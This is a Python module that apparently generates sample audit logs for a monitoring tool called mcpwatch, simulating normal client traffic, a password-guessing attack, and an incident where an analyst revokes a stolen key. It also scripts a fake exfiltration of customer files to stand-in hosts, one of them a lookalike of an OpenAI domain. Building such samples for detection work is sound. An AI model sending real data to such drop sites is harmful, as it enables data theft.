"""Makes the sample logs: `python -m mcpwatch.demo.samples DIR` writes the same bytes whenever it is run."""

from __future__ import annotations

import heapq
import random
import sys
import tempfile
from collections.abc import Callable, Iterable, Iterator, Mapping
from dataclasses import replace
from itertools import takewhile
from pathlib import Path
from typing import Final

from mcpwatch.demo.broken import broken_log
from mcpwatch.demo.cast import CLIENTS, STOLEN_KEY, Attempt, Client, honest_call, new_session
from mcpwatch.demo.fleet import Fleet, answer, write_policy
from mcpwatch.demo.policy import policy_text
from mcpwatch.event import Caller
from mcpwatch.policy.edit import Revoke, plan
from mcpwatch.policy.judge import Judge
from mcpwatch.policy.load import parse
from mcpwatch.policy.write import change
from mcpwatch.times import DAY, HOUR, MINUTE, SECOND

MIDNIGHT: Final = 1_795_132_800 * SECOND
"""2026-11-20T00:00:00Z, the day of all samples."""
INCIDENT_NS: Final = MIDNIGHT + 3 * HOUR + 14 * MINUTE + 7 * SECOND
REVOKED_NS: Final = INCIDENT_NS + 45 * SECOND
"""When the stolen key is revoked in the sample of the demo."""
_INCIDENT_LASTS: Final = 90 * SECOND
_SEED: Final = 20_261_120

_SLOW_GUESSER: Final = "198.51.100.23"
_FAST_GUESSER: Final = "203.0.113.77"
_NAMES: Final = (
    "admin",
    "root",
    "test",
    "dana",
    "dana@acme.example",
    "svc-pipeline",
    "backup",
    "operator",
    "guest",
)
_EXFIL: Final = Caller("key_0003", "research-agent", None, "198.51.100.88", None, "api_key")
_DROPS: Final = (
    ("web", True, "https://paste.example/api/new"),
    ("web", True, "https://api.openai.com.collect.example/v1/files"),
    ("web-legacy", False, "https://collect.example/upload"),
)
"""Where the exfiltration goes: server, whether it obeys the policy, and the address."""


def _spans(rng: random.Random, low: int, high: int) -> int:
    """A time span between two numbers of seconds, in whole milliseconds, as ns."""
    return rng.randint(low * 1_000, high * 1_000) * 1_000_000


def _working_lane(client: Client, start_ns: int, rng: random.Random) -> Iterator[Attempt]:
    """A client through the day: short sessions with long pauses between them, longer ones at night."""
    at_ns = start_ns + _spans(rng, 10, 1_500)
    while True:
        caller = new_session(client.caller, rng)
        yield Attempt(at_ns, "session_start", client.habits[0].server, caller)
        for _ in range(rng.randint(8, 20)):
            at_ns += _spans(rng, 6, 40)
            yield honest_call(client, caller, at_ns, rng)
        at_work = 7 <= at_ns % DAY // HOUR < 19
        at_ns += _spans(rng, 1_200, 3_600) if at_work else _spans(rng, 5_400, 10_800)


def _everyday(start_ns: int, lasts_ns: int, seed: int) -> list[Iterable[Attempt]]:
    """What the honest clients do in a while."""
    return [
        takewhile(
            lambda attempt: attempt.at_ns < start_ns + lasts_ns,
            _working_lane(client, start_ns, random.Random(seed + number)),
        )
        for number, client in enumerate(CLIENTS)
    ]


def _log(actors: Iterable[Iterable[Attempt]]) -> bytes:
    """The log of servers that obey the samples' policy, but for its revocation in the demo."""
    judge = Judge(parse(policy_text(INCIDENT_NS).encode(), None))
    attempts = heapq.merge(*actors, key=lambda attempt: attempt.at_ns)
    return b"".join(answer(judge, attempt, number) for number, attempt in enumerate(attempts, 1))


def _quiet_day() -> bytes:
    return _log(_everyday(MIDNIGHT, DAY, _SEED))


def _guesses(start_ns: int, every_ns: int, count: int, address: str) -> Iterator[Attempt]:
    for number in range(count):
        guesser = Caller(None, None, None, address, _NAMES[number % len(_NAMES)], "oauth")
        yield Attempt(start_ns + number * every_ns, "auth", "files", guesser)


def _intruder(start_ns: int) -> Iterator[Attempt]:
    """A password was found: a log-in from the address of the guesses, and a look round."""
    rng = random.Random(_SEED)
    stolen = replace(CLIENTS[4].caller, source_ip=_FAST_GUESSER)
    yield Attempt(start_ns, "auth", "files", stolen)
    session = new_session(stolen, rng)
    for number in range(1, 7):
        params = {"path": f"/app/data/ledger/part-{number}.csv"}
        at_ns = start_ns + number * 12 * SECOND
        yield Attempt(at_ns, "tool_call", "files", session, "file_read", params, duration_ms=6.5)


def _brute_force() -> bytes:
    start_ns = MIDNIGHT + 9 * HOUR
    fast_ns = start_ns + 12 * MINUTE
    return _log(
        [
            *_everyday(start_ns, 45 * MINUTE, _SEED + 100),
            # every 170 s: never three within five minutes
            _guesses(start_ns + 20 * SECOND, 170 * SECOND, 14, _SLOW_GUESSER),
            _guesses(fast_ns, 2_400_000_000, 45, _FAST_GUESSER),
            _intruder(fast_ns + 45 * 2_400_000_000),
        ]
    )


def _exfiltrator(start_ns: int) -> Iterator[Attempt]:
    """Reads file after file, each in a session of its own, then looks for a way to get them out."""
    rng = random.Random(_SEED)
    at_ns = start_ns
    for _ in range(90):
        at_ns += _spans(rng, 2, 4)
        params = {"path": f"/app/data/customers/{rng.randint(10_000, 99_999)}.json"}
        caller = new_session(_EXFIL, rng)
        yield Attempt(at_ns, "tool_call", "files", caller, "file_read", params, duration_ms=4.2)
    for server, enforced, url in _DROPS:
        at_ns += _spans(rng, 8, 15)
        params = {"url": url, "method": "POST", "body": "customers.tar.gz.b64"}
        caller = new_session(_EXFIL, rng)
        yield Attempt(
            at_ns, "tool_call", server, caller, "http_request", params, duration_ms=830.0, enforced=enforced
        )


def _exfiltration() -> bytes:
    start_ns = MIDNIGHT + 14 * HOUR + 30 * MINUTE
    return _log([*_everyday(start_ns, 30 * MINUTE, _SEED + 200), _exfiltrator(start_ns + 8 * MINUTE)])


def demo_incident() -> tuple[bytes, bytes]:
    """The demo's first 90 s with a revocation after 45: the log, and the policy file as it is afterwards."""
    with tempfile.TemporaryDirectory() as folder:
        log, policy = Path(folder, "audit.jsonl"), Path(folder, "policy.yaml")
        write_policy(policy, INCIDENT_NS)
        fleet = Fleet(log, policy, seed=_SEED, start_ns=INCIDENT_NS)
        fleet.step(REVOKED_NS)
        revoke = Revoke("key", STOLEN_KEY, REVOKED_NS, "alice@bastion", "used from an unknown address")
        state = Path(folder, "state")
        change(policy, lambda data: plan(data, revoke, policy.name), state_dir=state, actor="alice@bastion")
        fleet.step(INCIDENT_NS + _INCIDENT_LASTS)
        return log.read_bytes(), policy.read_bytes()


_LOGS: Final[Mapping[str, Callable[[], bytes]]] = {
    "quiet-day.jsonl": _quiet_day,
    "brute-force.jsonl": _brute_force,
    "exfiltration.jsonl": _exfiltration,
    "broken.jsonl": lambda: broken_log(MIDNIGHT + 12 * HOUR),
}


def samples() -> dict[str, bytes]:
    """Every generated sample by its file name."""
    incident, policy = demo_incident()
    made = {name: make() for name, make in _LOGS.items()}
    return {**made, "demo-incident.jsonl": incident, "policy.yaml": policy}


def main(arguments: list[str]) -> int:
    """Write the samples into the folder that is named; the exit code."""
    if len(arguments) != 1:
        print("usage: python -m mcpwatch.demo.samples DIR", file=sys.stderr)
        return 2
    folder = Path(arguments[0])
    folder.mkdir(parents=True, exist_ok=True)
    for name, data in samples().items():
        (folder / name).write_bytes(data)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
